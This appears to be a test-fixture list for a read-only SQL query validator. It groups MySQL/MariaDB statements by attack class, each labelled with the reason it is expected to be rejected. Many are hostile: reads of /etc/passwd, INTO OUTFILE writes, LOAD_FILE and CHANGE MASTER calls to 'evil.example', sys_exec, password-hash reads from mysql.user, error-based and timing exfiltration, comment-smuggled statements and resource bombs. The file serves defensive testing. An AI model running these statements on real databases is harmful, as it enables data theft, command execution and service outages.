-- class: dml_direct
-- reason: changes_data
UPDATE ship JOIN crew ON crew.ship_id = ship.id SET ship.flag = 'XX'
-- reason: changes_data
DELETE QUICK FROM voyage ORDER BY id LIMIT 1
-- reason: changes_data, not_a_read
REPLACE INTO crew SET id = 1, pay = 0
-- reason: changes_data
INSERT LOW_PRIORITY INTO ship (id) VALUES (9)
-- class: dml_returning
-- reason: changes_data
DELETE FROM crew WHERE id = 1 RETURNING pay
-- reason: changes_data
INSERT INTO ship (id) VALUES (9) RETURNING id, name
-- class: cte_dml
-- reason: changes_data
WITH late AS (SELECT id FROM voyage WHERE arrived IS NULL) UPDATE voyage SET fare = 0 WHERE id IN (SELECT id FROM late)
-- reason: changes_data
INSERT INTO ship (id) WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n WHERE i < 3) SELECT i + 50 FROM n
-- class: truncate
-- reason: changes_data
TRUNCATE TABLE ship
-- reason: changes_data
TRUNCATE crew
-- class: ddl_direct
-- reason: changes_data
CREATE TABLE copied LIKE crew
-- reason: changes_data
ALTER TABLE ship ENGINE = MEMORY
-- reason: changes_data, not_a_read, not_parsed
RENAME TABLE ship TO boat
-- reason: changes_data
CREATE OR REPLACE VIEW everything AS SELECT * FROM crew
-- class: ddl_code_object
-- reason: changes_data, not_parsed
CREATE TRIGGER spy BEFORE INSERT ON ship FOR EACH ROW SET NEW.flag = 'XX'
-- reason: changes_data, not_a_read, not_parsed
CREATE FUNCTION double_it(x INT) RETURNS INT RETURN x * 2
-- reason: changes_data, not_a_read, not_parsed
INSTALL SONAME 'evil'
-- class: dcl
-- reason: changes_data
GRANT FILE ON *.* TO reader@localhost
-- reason: changes_data, not_a_read, not_parsed
SET PASSWORD FOR root@localhost = PASSWORD('x')
-- reason: changes_data, not_a_read, not_parsed
CREATE USER ghost@'%' IDENTIFIED BY 'x'
-- class: temp_object
-- reason: changes_data
CREATE TEMPORARY TABLE ship (id INT)
-- reason: changes_data
CREATE TEMPORARY TABLE copied SELECT * FROM crew
-- class: select_into
-- reason: changes_data, construct_not_allowed
SELECT name INTO @first FROM ship LIMIT 1
-- reason: changes_data, construct_not_allowed, not_parsed
SELECT id, name INTO @a, @b FROM ship WHERE id = 1
-- class: multi_statement
-- reason: several_statements
SELECT 1; UPDATE ship SET flag = 'x'
-- reason: several_statements, changes_data
SELECT name FROM ship;; DROP TABLE ship;
-- class: comment_hidden_statement
-- reason: changes_data
-- just looking
UPDATE ship SET flag = 'x'
-- reason: changes_data
# SELECT name FROM ship
DROP TABLE ship
-- class: comment_keyword_split
-- reason: changes_data
UPDATE/**/ship/**/SET/**/flag=1
-- reason: changes_data
DELETE#x
FROM#y
ship
-- class: comment_nesting_differential
-- reason: several_statements, not_parsed
SELECT 1 /* a /* b */; DELETE FROM ship; -- */
-- reason: changes_data, not_parsed
/* a /* b */ UPDATE ship SET flag = 'x' /* */
-- class: executable_comment
-- reason: executable_comment
SELECT name /*!50700 , (SELECT code FROM vault) */ FROM ship
-- reason: executable_comment
SELECT 1 /*M! UNION SELECT code FROM vault */
-- reason: executable_comment
SELECT name FROM ship WHERE id = 1 /*! OR 1 = 1 */
-- reason: executable_comment, empty
/*!DELETE FROM ship*/
-- class: line_comment_differential
-- reason: unknown_table
SELECT id FROM ship WHERE id = 1 --
UNION SELECT code FROM vault
-- reason: unknown_table
SELECT 1 # one
UNION SELECT code FROM vault -- two
-- class: user_variable
-- reason: placeholder, construct_not_allowed
SELECT @n := @n + 1, name FROM ship
-- reason: placeholder, construct_not_allowed
SELECT name FROM ship WHERE (@x := id) > 0
-- reason: changes_data
SET @code = 'x'
-- class: file_write_statement
-- reason: changes_data, construct_not_allowed, not_parsed
SELECT * FROM crew INTO OUTFILE '/tmp/crew.csv' FIELDS TERMINATED BY ','
-- reason: changes_data, construct_not_allowed, not_parsed
SELECT name INTO DUMPFILE '/tmp/x' FROM ship
-- reason: changes_data, construct_not_allowed, not_parsed
SELECT 1 UNION SELECT 2 INTO/**/OUTFILE/**/'/tmp/x'
-- class: file_read_function
-- reason: function_not_allowed
SELECT LENGTH(LOAD_FILE('/etc/passwd'))
-- reason: function_not_allowed
SELECT name FROM ship WHERE LOAD_FILE(CONCAT('/etc/', name)) IS NOT NULL
-- class: file_import_statement
-- reason: changes_data
LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE ship
-- reason: changes_data, not_a_read, not_parsed
LOAD XML LOCAL INFILE 'x.xml' INTO TABLE crew
-- class: file_read_table_engine
-- reason: changes_data
CREATE TABLE f (x TEXT) ENGINE = CONNECT TABLE_TYPE = DOS FILE_NAME = '/etc/passwd'
-- reason: changes_data
CREATE TABLE g (x INT NOT NULL) ENGINE = CSV
-- class: explain_analyze_dml
-- reason: explain_runs, not_a_read
EXPLAIN ANALYZE SELECT * FROM ship
-- reason: explain_runs, not_a_read, changes_data
ANALYZE UPDATE ship SET flag = 'x'
-- reason: explain_runs, not_a_read
EXPLAIN DELETE FROM ship
-- class: explain_leak
-- reason: unknown_table
EXPLAIN SELECT code FROM vault
-- reason: unknown_table
DESCRIBE SELECT * FROM ship JOIN vault USING (id)
-- class: select_for_update
-- reason: takes_locks
SELECT * FROM ship WHERE id = 1 FOR UPDATE SKIP LOCKED
-- reason: takes_locks
SELECT * FROM ship LOCK IN SHARE MODE
-- reason: takes_locks
SELECT (SELECT id FROM ship LIMIT 1 FOR UPDATE) AS x
-- class: lock_acquire
-- reason: function_not_allowed
SELECT IS_FREE_LOCK('x'), RELEASE_ALL_LOCKS()
-- reason: not_a_read, changes_data, not_parsed
FLUSH TABLES WITH READ LOCK
-- reason: not_a_read, changes_data, not_parsed
LOCK TABLES ship READ, crew WRITE
-- class: session_kill
-- reason: changes_data, not_a_read
KILL QUERY 12
-- reason: changes_data, not_a_read
KILL CONNECTION 5
-- class: server_admin
-- reason: not_a_read, changes_data, not_parsed
FLUSH PRIVILEGES
-- reason: not_a_read, changes_data, not_parsed
REPAIR TABLE ship
-- reason: not_a_read, changes_data, not_parsed
PURGE BINARY LOGS BEFORE NOW()
-- class: session_config_change
-- reason: changes_data
SET sql_mode = 'ANSI_QUOTES'
-- reason: changes_data
SET @@session.max_statement_time = 0
-- reason: changes_data, not_a_read, not_parsed
SET STATEMENT max_statement_time = 0 FOR SELECT * FROM ship
-- reason: changes_data
SET CHARACTER SET utf8mb4
-- class: hint_override
-- reason: optimizer_hint
SELECT /*+ SET_VAR(sql_mode='') */ name FROM ship
-- reason: optimizer_hint
SELECT name FROM ship WHERE id IN (SELECT /*+ NO_SEMIJOIN() */ ship_id FROM voyage)
-- class: txn_escape
-- reason: changes_data
START TRANSACTION READ WRITE
-- reason: changes_data
ROLLBACK; DELETE FROM ship
-- reason: not_a_read, changes_data, not_parsed
XA START 'x'
-- class: stored_proc_call
-- reason: not_a_read, changes_data, not_parsed
CALL purge_all()
-- reason: not_a_read, changes_data, not_parsed
CALL sys.diagnostics(60, 60, 'current')
-- class: dynamic_sql
-- reason: not_a_read, changes_data, not_parsed
PREPARE p FROM 'DELETE FROM ship'
-- reason: not_a_read, changes_data, not_parsed
EXECUTE IMMEDIATE 'DROP TABLE ship'
-- reason: not_a_read, changes_data, not_parsed
EXECUTE p USING @a
-- class: low_level_access
-- reason: not_a_read, changes_data, not_parsed
HANDLER ship READ `PRIMARY` FIRST
-- reason: not_a_read, changes_data, not_parsed
HANDLER crew OPEN AS c
-- class: cross_database_access
-- reason: system_catalog
SELECT user, authentication_string FROM mysql.user
-- reason: unknown_table
SELECT * FROM otherdb.ship
-- reason: other_database, unknown_table, not_parsed
SELECT * FROM `a`.`b`.`ship`
-- class: catalog_enumeration
-- reason: not_a_read
SHOW CREATE TABLE vault
-- reason: system_catalog
SELECT * FROM INFORMATION_SCHEMA.PROCESSLIST
-- reason: system_catalog
SELECT digest_text FROM performance_schema.events_statements_history
-- reason: not_a_read
DESC vault
-- class: ungranted_table
-- reason: unknown_table
SELECT * FROM ship NATURAL JOIN vault
-- reason: unknown_table
SELECT name FROM ship WHERE (id, name) IN (SELECT id, code FROM vault)
-- reason: unknown_table
TABLE vault
-- reason: unknown_table
SELECT JSON_ARRAYAGG(code) FROM `vault`
-- reason: unknown_table
SELECT name FROM ship GROUP BY name WITH ROLLUP HAVING MAX((SELECT code FROM vault)) > 'a'
-- class: boolean_inference
-- reason: unknown_table
SELECT IF((SELECT code FROM vault) REGEXP '^p', 1, 0)
-- reason: unknown_table
SELECT name FROM ship WHERE ASCII((SELECT code FROM vault)) > 100
-- class: error_based_exfil
-- reason: function_not_allowed, unknown_table
SELECT EXTRACTVALUE(1, CONCAT(0x7e, (SELECT code FROM vault)))
-- reason: function_not_allowed
SELECT UPDATEXML(1, CONCAT('~', (SELECT MAX(name) FROM ship)), 1)
-- class: timing_inference
-- reason: unknown_table, function_not_allowed
SELECT IF((SELECT code FROM vault) LIKE 'p%', SLEEP(2), 0)
-- reason: function_not_allowed
SELECT name FROM ship WHERE BENCHMARK(5000000, MD5(name)) = 0
-- class: sleep_delay
-- reason: function_not_allowed
SELECT name, SLEEP(1) FROM ship
-- reason: function_not_allowed
SELECT * FROM ship WHERE id = `sleep`(3)
-- class: sequence_side_effect
-- reason: function_not_allowed, construct_not_allowed, changes_data, not_parsed
SELECT NEXT VALUE FOR seq
-- reason: function_not_allowed
SELECT NEXTVAL(seq), LASTVAL(seq)
-- reason: function_not_allowed
SELECT LAST_INSERT_ID(7)
-- class: network_egress
-- reason: function_not_allowed
SELECT LOAD_FILE('\\\\evil.example\\share')
-- reason: not_a_read, changes_data, not_parsed
CHANGE MASTER TO MASTER_HOST = 'evil.example'
-- class: replication
-- reason: not_a_read, changes_data, not_parsed
STOP SLAVE
-- reason: function_not_allowed
SELECT MASTER_POS_WAIT('x', 1, 60)
-- class: keyword_as_alias
-- reason: not_a_read, changes_data, not_parsed
FLUSH LOGS
-- reason: not_a_read, changes_data, not_parsed
UNLOCK TABLES
-- reason: not_a_read, changes_data, not_parsed
RESET MASTER
-- class: string_escape_differential
-- reason: several_statements
SELECT 'a\\'; DELETE FROM ship; -- '
-- reason: several_statements
SELECT "a""b" FROM ship; DROP TABLE ship
-- class: client_meta_command
-- reason: client_command
DELIMITER //
-- reason: client_command
\. script.sql
-- reason: client_command
SELECT 1
\G
-- class: recursive_cte_bomb
-- reason: unbounded_recursion
WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM t) SELECT COUNT(*) FROM t
-- reason: series_too_long
WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM t WHERE n < 900) SELECT COUNT(*) FROM t a, t b, t c, t d
-- class: cartesian_bomb
-- reason: unconnected_tables
SELECT COUNT(*) FROM voyage a, voyage b, voyage c, voyage d, voyage e WHERE a.fare > 1
-- reason: unconnected_tables
SELECT SUM(a.id) FROM voyage a STRAIGHT_JOIN crew b STRAIGHT_JOIN ship c STRAIGHT_JOIN logbook d
-- class: series_bomb
-- reason: unknown_table
SELECT COUNT(*) FROM seq_1_to_900000000000
-- reason: unknown_table
SELECT SUM(a.seq * b.seq) FROM seq_1_to_100000 a, seq_1_to_100000 b
-- class: memory_bomb
-- reason: text_too_long
SELECT LENGTH(REPEAT('x', 900000000))
-- reason: text_too_long
SELECT REPLACE(SPACE(90000), ' ', SPACE(90000))
-- reason: text_too_long
SELECT GROUP_CONCAT(LPAD(name, 90000, 'x')) FROM voyage, ship
-- class: compile_bomb
-- reason: too_many_combinations
WITH a AS (SELECT id FROM ship), b AS (SELECT x.id FROM a x, a y), c AS (SELECT x.id FROM b x, b y), d AS (SELECT x.id FROM c x, c y), e AS (SELECT x.id FROM d x, d y), f AS (SELECT x.id FROM e x, e y), g AS (SELECT x.id FROM f x, f y), h AS (SELECT x.id FROM g x, g y), i AS (SELECT x.id FROM h x, h y), j AS (SELECT x.id FROM i x, i y) SELECT COUNT(*) FROM j
-- reason: too_many_joins
SELECT 1 FROM ship a JOIN ship b JOIN ship c JOIN ship d JOIN ship e JOIN ship f JOIN ship g JOIN ship h JOIN ship i JOIN ship j JOIN ship k JOIN ship l JOIN ship m JOIN ship n ON n.id = a.id
-- class: pattern_dos
-- reason: pattern_too_complex
SELECT name RLIKE '(x+)*$' FROM ship
-- reason: pattern_too_complex
SELECT REGEXP_REPLACE(note, '((ab)*)+c', '') FROM voyage
-- class: limit_evasion
-- reason: limit_not_a_number, placeholder, not_parsed
SELECT * FROM ship LIMIT @n
-- reason: changes_data, construct_not_allowed, not_parsed
SELECT * FROM ship PROCEDURE ANALYSE()
-- class: column_mask_bypass
-- reason: unknown_column
SELECT c.pay FROM crew c
-- reason: unknown_column
SELECT name FROM crew ORDER BY email LIMIT 1
-- reason: unknown_column
SELECT JSON_OBJECT('p', pay) FROM crew
-- class: rls_bypass
-- reason: unknown_table
SELECT * FROM voyage_history
-- reason: construct_not_allowed
SELECT * FROM voyage FOR SYSTEM_TIME ALL
-- class: udf_side_effect
-- reason: user_function
SELECT surcharge(fare) FROM voyage
-- reason: user_function
SELECT harbour.log_entry(name) FROM ship
-- class: command_exec
-- reason: function_not_allowed
SELECT sys_exec('id')
-- reason: client_command
\! id
-- class: secret_read
-- reason: function_not_allowed
SELECT VERSION(), CURRENT_USER()
-- reason: placeholder
SELECT @@datadir, @@global.secure_file_priv
-- class: quoted_identifier_function
-- reason: function_not_allowed
SELECT `load_file`('/etc/passwd')
-- reason: function_not_allowed
SELECT `GET_LOCK` ('x', 1)
-- class: whitespace_variant
-- reason: changes_data, escaped
dElEtE\r\n\tFROM\n ship
-- reason: forbidden_character, escaped
UPDATE\xa0ship SET flag = 1
-- class: null_byte
-- reason: forbidden_character, escaped
SELECT 1\x00; DROP TABLE ship
-- reason: forbidden_character, escaped
SELECT 'a\x1ab'
-- class: placeholder_smuggling
-- reason: placeholder
SELECT name FROM ship WHERE id = ?
-- reason: placeholder
SELECT @a, :b
